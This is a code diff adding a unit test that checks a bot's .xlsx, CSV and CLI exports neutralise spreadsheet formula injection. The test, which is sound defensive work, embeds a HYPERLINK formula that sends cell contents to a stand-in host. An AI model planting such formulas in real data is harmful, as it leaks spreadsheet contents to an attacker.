@@ -226,3 +226,24 @@ async def test_restart_reschedules_reminders_and_sends_overdue_once(offline_app,
         else:
             assert to_users == [], "never twice"
         await app.shutdown()
+
+
+def test_exports_never_carry_live_formulas(make_core, config_file, capsys):
+    """A unit name or a question typed as a formula is written as text in .xlsx, .csv and kb unanswered."""
+    from bot.cli import main
+
+    core = make_core()
+    evil = '=HYPERLINK("http://x.example/?"&A1,"Bấm")'
+    unit = core.storage.get_or_create_unit("co-quan", evil, 20, "Lạng Sơn")
+    core.storage.touch_user(31, "u")
+    core.storage.set_user_unit(31, unit)
+    core.text(User(31), "+SUM(1,2) ăn trưa ở đâu")
+    core.text(User(31), "@thoi tiet mai")
+    ws = load_workbook(io.BytesIO(core.press(User(ADMIN), "px:all").attachment.data)).active
+    cells = [c.value for row in ws.iter_rows(min_row=2) for c in row if isinstance(c.value, str)]
+    assert f"'{evil}" in cells and not any(str(v).startswith(("=", "+", "-", "@")) for v in cells)
+    csv = core.press(User(ADMIN), "pv:all").attachment.data.decode("utf-8-sig")
+    assert "'=HYPERLINK" in csv and "\n=HYPERLINK" not in csv and ',=HYPERLINK' not in csv
+    assert main(["kb", "unanswered", "--config", str(config_file)]) == 0
+    out = capsys.readouterr().out
+    assert "'+SUM(1,2)" in out and "'@thoi" in out and ",+SUM" not in out and ",@thoi" not in out
